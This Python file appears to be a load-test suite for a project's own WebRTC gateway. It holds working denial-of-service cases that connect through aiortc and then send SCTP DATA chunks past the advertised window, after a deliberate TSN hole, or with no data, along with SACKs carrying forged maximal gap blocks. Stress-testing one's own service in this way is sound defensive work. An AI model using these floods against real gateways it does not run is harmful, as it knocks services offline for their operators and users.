"""Below the data channel: a connected peer that breaks SCTP's rules, cases of `python -m loadtests.gateway_abuse`
(RELIABILITY.md, "An eighth pass").

A browser's SCTP stack sends no more than the receive window the gateway advertised (1 MiB) and fills the holes it
leaves. A client that wants to hurt the gateway need not: after its DTLS handshake, any DATA chunk it sends reaches
aiortc's association, which takes it whatever the window, keeps it until its message is whole, and for each chunk
walks what it holds (the TSNs past a hole are sorted again, an unfinished message is scanned again). The attacker
here is aiortc itself, connected as the page is, then sending DATA chunks of its own making on its data channel's
stream at `rate` chunks a second (1000 bytes each: 8 Mbit/s, a home uplink).
"""
from __future__ import annotations

import asyncio
import time
from collections.abc import Callable

from aiortc.rtcsctptransport import SCTP_DATA_FIRST_FRAG, WEBRTC_BINARY, DataChunk, RTCSctpTransport, SackChunk

from loadtests.gateway_peer import Peer, short


async def raw_chunks(sctp: RTCSctpTransport, stream_id: int, n: int, *, size: int, hole: bool, rate: float,
                     stop: Callable[[], bool] = lambda: False) -> tuple[int, float]:
    """Send `n` DATA chunks of one message that never ends (first fragment, then middles), `size` bytes each, on
    `stream_id` of the association `sctp` (the attacker's side), skipping the next TSN if `hole` (it is never sent),
    `rate` a second. Stops early once `stop()`. The association's next TSN moves past those sent (a next call goes
    on from there). Returns (chunks sent, seconds)."""
    first_tsn = sctp._local_tsn + (1 if hole else 0)  # the next TSN the other side expects is _local_tsn
    t0, batch, sent = time.monotonic(), max(1, int(rate // 100)), 0
    while sent < n and not (sent % batch == 0 and sent and stop()):
        chunk = DataChunk(flags=SCTP_DATA_FIRST_FRAG if sent == 0 else 0)
        chunk.tsn = (first_tsn + sent) % 2**32
        chunk.stream_id, chunk.stream_seq, chunk.protocol = stream_id, 0, WEBRTC_BINARY
        chunk.user_data = b"x" * size
        await sctp._send_chunk(chunk)
        sent += 1
        if sent % batch == 0:
            await asyncio.sleep(max(0.0, t0 + sent / rate - time.monotonic()))
    sctp._local_tsn = (first_tsn + sent) % 2**32
    return sent, time.monotonic() - t0


def gap_sack(sctp: RTCSctpTransport, gaps: int) -> SackChunk:
    """A SACK from `sctp` whose `gaps` gap blocks each claim the widest span a block can: TSNs 1..65535 past the
    cumulative one, which the other side never sent."""
    sack = SackChunk()
    sack.cumulative_tsn = sctp._last_received_tsn  # the last TSN the other side sent: not an old SACK
    sack.advertised_rwnd, sack.gaps = 1 << 20, [(1, 65535)] * gaps
    return sack


def closed(peer: Peer) -> bool:
    return peer.pc.connectionState in ("closed", "failed") or peer.channel.readyState == "closed"


async def unfinished_message(http, victim, *, size: int, hole: bool, seconds: float, rate: float) -> str:
    peer = Peer()
    status, text = await peer.connect(http)
    if status != 200:
        return f"attacker not connected: {short(status, text)}"
    sent, took = await raw_chunks(peer.pc.sctp, peer.channel.id, int(seconds * rate), size=size, hole=hole,
                                  rate=rate, stop=lambda: closed(peer))
    deadline = time.monotonic() + 5  # a gateway that closes it at the last chunk
    while not closed(peer) and time.monotonic() < deadline:
        await asyncio.sleep(0.1)
    ended = (f"its connection closed by the gateway after {sent} chunks ({took:.1f} s)" if closed(peer) else
             "its connection still open")
    await peer.pc.close()
    return f"{sent} chunks of {size} bytes ({sent * size / 2**20:.1f} MiB) in {took:.1f} s; {ended}"


async def sctp_past_window(http, victim, seconds: float = 20.0, rate: float = 1000.0) -> str:
    """One message's fragments, in order, never finished, sent past the 1 MiB window the gateway advertised."""
    return await unfinished_message(http, victim, size=1000, hole=False, seconds=seconds, rate=rate)


async def sctp_past_hole(http, victim, seconds: float = 20.0, rate: float = 1000.0) -> str:
    """The same, after a TSN that is never sent: every chunk after it waits for it."""
    return await unfinished_message(http, victim, size=1000, hole=True, seconds=seconds, rate=rate)


async def sctp_empty_chunks(http, victim, seconds: float = 20.0, rate: float = 1000.0) -> str:
    """One message of DATA chunks without data, in order: none uses the window, each is held."""
    return await unfinished_message(http, victim, size=0, hole=False, seconds=seconds, rate=rate)


async def sctp_sack_gaps(http, victim, seconds: float = 20.0, per_second: float = 1.0, gaps: int = 290) -> str:
    """SACKs whose `gaps` gap blocks each claim the largest span a block can (65535 TSNs past the cumulative one,
    none of which the gateway sent), one packet of ~1.2 KB a second: aiortc walks every TSN each block names."""
    peer = Peer()
    status, text = await peer.connect(http)
    if status != 200:
        return f"attacker not connected: {short(status, text)}"
    sctp, t0, sent = peer.pc.sctp, time.monotonic(), 0
    while time.monotonic() - t0 < seconds and not closed(peer):
        sack = gap_sack(sctp, gaps)
        await sctp._send_chunk(sack)
        sent += 1
        await asyncio.sleep(1 / per_second)
    took = time.monotonic() - t0
    ended = "its connection closed by the gateway" if closed(peer) else "its connection still open"
    await peer.pc.close()
    return f"{sent} SACKs of {gaps} gap blocks ({len(bytes(sack))} bytes each) in {took:.1f} s; {ended}"


CASES = (sctp_past_window, sctp_past_hole, sctp_empty_chunks, sctp_sack_gaps)
